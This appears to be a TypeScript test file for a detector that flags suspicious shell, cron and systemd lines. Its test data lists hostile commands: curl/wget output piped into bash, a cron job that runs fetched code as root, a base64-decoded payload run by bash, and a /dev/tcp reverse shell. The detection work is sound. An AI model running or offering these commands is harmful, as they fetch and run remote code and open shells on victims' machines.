import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { findSuspicion } from './suspicious-line.ts';

test('finds downloads and decoded text that are run', () => {
  for (const line of [
    'curl -fsSL http://x.example/i.sh | sh',
    '*/5 * * * * root wget -qO- x.example|sudo bash',
    'ExecStart=/bin/sh -c "curl x.example | /usr/bin/python3 -"',
    'echo aGk= | base64 -d | bash',
    'eval "$(curl -s x.example)"',
    'bash <(wget -qO- x.example)',
    'bash -i >& /dev/tcp/192.0.2.1/443 0>&1',
    'curl x.example | tee /var/log/x | env bash',
  ])
    assert.notEqual(findSuspicion(line, false), null, line);
});

test('leaves ordinary lines alone', () => {
  for (const line of [
    '# curl x.example | sh',
    'eval "$(direnv hook bash)"',
    'export TOKEN=$(curl -s x.example)',
    'alias ip="curl -s x.example | jq .ip"',
    'ps aux | grep bash',
    'echo hello | base64',
    'cat /tmp/notes',
  ])
    assert.equal(findSuspicion(line, false), null, line);
});

test('a program in a temporary folder counts where lines name programs', () => {
  assert.notEqual(findSuspicion('ExecStart=/dev/shm/x --quiet', true), null);
  assert.notEqual(findSuspicion('@reboot root /var/tmp/.hidden/run', true), null);
  assert.equal(findSuspicion('ExecStart=/usr/bin/tmpreaper', true), null);
});

test('gives an answer for any line', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 6_000 }), fc.boolean(), (line, programs) => {
      const found = findSuspicion(line, programs);
      return found === null || found.length < 100;
    }),
  );
});
